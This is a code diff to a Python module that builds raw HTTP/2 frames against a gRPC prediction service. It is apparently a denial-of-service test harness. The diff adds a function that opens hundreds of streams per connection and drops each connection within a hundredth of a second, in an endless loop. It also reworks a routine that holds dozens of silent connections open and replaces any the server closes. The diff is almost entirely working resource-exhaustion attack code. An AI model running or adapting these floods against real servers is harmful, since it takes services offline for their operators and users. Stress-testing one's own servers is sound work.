@@ -18,7 +18,6 @@ from hostile import PREDICT
 from http2 import (
     END_HEADERS,
     HEADERS,
-    PING,
     RST_STREAM,
     Connection,
     call,
@@ -41,6 +40,7 @@ TABLES_AT_ONCE = 4
 # A connection runs 250 calls at once.
 MOST_CALLS = range(3, 3 + 2 * 240, 2)
 UNREAD_CONNECTIONS, SILENT_CONNECTIONS = 20, 60
+RECONNECT_SECONDS = 0.01
 CANCEL = (8).to_bytes(4, "big")
 # A server keeps 4,096 bytes of headers, and takes 8,192 of a call's metadata, as they are sent.
 KEPT_BYTES, REFERENCES = 4000, 3000
@@ -128,33 +128,37 @@ def unread_answers(address: str, request: bytes) -> None:
 
 def silent_streams(address: str, request: bytes) -> None:
     """Open streams on many connections, and say nothing in them."""
+    hold_connections(address, hello() + openings_of_streams(), SILENT_CONNECTIONS)
+
+
+def reconnecting_streams(address: str, request: bytes) -> None:
+    """Open streams on a hundred connections a second, and end each connection at once."""
+    words = hello() + openings_of_streams()
+    while True:
+        with Connection(address) as connection, contextlib.suppress(OSError):
+            connection.send(words)
+            time.sleep(RECONNECT_SECONDS)
+
+
+def openings_of_streams() -> bytes:
+    """Return the beginnings of as many streams as a connection runs at once."""
     path = headers_of(f"{PATH}/StreamPredict")
-    calls = b"".join(frame(HEADERS, END_HEADERS, number, path) for number in MOST_CALLS)
-    hold_connections(address, hello() + calls, SILENT_CONNECTIONS)
+    return b"".join(frame(HEADERS, END_HEADERS, number, path) for number in MOST_CALLS)
 
 
 def hold_connections(address: str, words: bytes, count: int) -> None:
-    """Say the same on so many connections, and keep them; one that ends is replaced."""
-    connections: list[Connection] = []
+    """Say the same on so many connections, and no more; one that the server ends is replaced."""
+    readers: list[Thread] = []
     while True:
-        if len(connections) < count:
-            connection = Connection(address, timeout=2)
-            connections.append(connection)
-            say(connection, words)
-            Thread(target=read, args=[connection], daemon=True).start()
+        readers = [each for each in readers if each.is_alive()]
+        if len(readers) < count:
+            connection = Connection(address, timeout=3 * ATTACK_SECONDS)
+            readers.append(Thread(target=read, args=[connection], daemon=True))
+            readers[-1].start()
+            with contextlib.suppress(OSError):  # The server has ended it; its reader ends, too.
+                connection.send(words)
         else:
             time.sleep(0.05)
-            connections = [each for each in connections if say(each, frame(PING, payload=bytes(8)))]
-
-
-def say(connection: Connection, words: bytes) -> bool:
-    """Say something, unless the server has closed the connection; return whether it is open."""
-    try:
-        connection.send(words)
-    except OSError:
-        connection.socket.close()
-        return False
-    return True
 
 
 def many_tables(address: str, request: bytes) -> None:
